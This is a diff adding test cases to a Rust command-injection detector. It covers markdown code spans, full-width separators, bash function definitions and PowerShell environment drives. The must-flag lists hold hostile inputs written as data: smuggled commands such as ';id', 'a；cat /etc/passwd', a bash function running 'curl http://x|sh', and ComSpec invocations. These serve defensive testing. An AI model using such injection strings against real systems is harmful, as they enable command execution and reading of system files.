@@ -372,6 +372,11 @@ fn markdown_code_spans_are_prose() {
         "The `id` field",
         "Run `make` in the dir",
         "Use `python` to run it.",
+        // The span alone is the command shown; the sentence after it is no argument.
+        "Why does `ls` show nothing?",
+        "On some systems, you may need to use `py` or `python` instead of `python3`.",
+        "(and 5 times slower than `set`);",
+        "Equivalent of builtin `zip`.\"\"\"",
     ] {
         assert!(!hit(v), "flagged {v:?}");
     }
@@ -383,8 +388,70 @@ fn markdown_code_spans_are_prose() {
         "; `python -c 'import os'`",
         "name=`whoami` here",
         "$(`dir`)",
+        // Punctuation glued to more text is part of a file name an upload handler passes on.
+        "`id`.png",
+        "`uname -a`.jpg",
+        "Why does `ls -la /etc` show it?",
     ] {
         assert!(hit(v), "missed {v:?}");
+    }
+}
+
+#[test]
+fn full_width_separators_after_normalisation() {
+    for v in [
+        "；id",
+        "｜id",
+        "＆whoami",
+        "a；cat /etc/passwd",
+        "x｜ls -la",
+        "＄(id)",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "東京；大阪",
+        "価格｜送料無料",
+        "（株）ＡＢＣ商事",
+        "ＩＤ：１２３４",
+        "Ｑ＆Ａ",
+        "注意；ＩＤ番号を入力",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn bash_function_keyword() {
+    for v in [
+        ";function f { id; }; f",
+        "function f { cat /etc/passwd; }; f",
+        "x; function run { curl http://x|sh; }",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "function f() { return 1; }",
+        ";function f() { id(); }",
+        "a function of time",
+        "function { id }",
+        "The function calc { x } returns",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
+
+#[test]
+fn powershell_environment_drive_in_any_case() {
+    for v in [
+        "; ${ENV:COMSPEC} /c dir",
+        "& ${Env:ComSpec} /c whoami",
+        "|$ENV:ComSpec /c ver",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in ["Set ${ENV_NAME} in the file", "${env.HOME}/bin"] {
+        assert!(!hit(v), "flagged {v:?}");
     }
 }
 
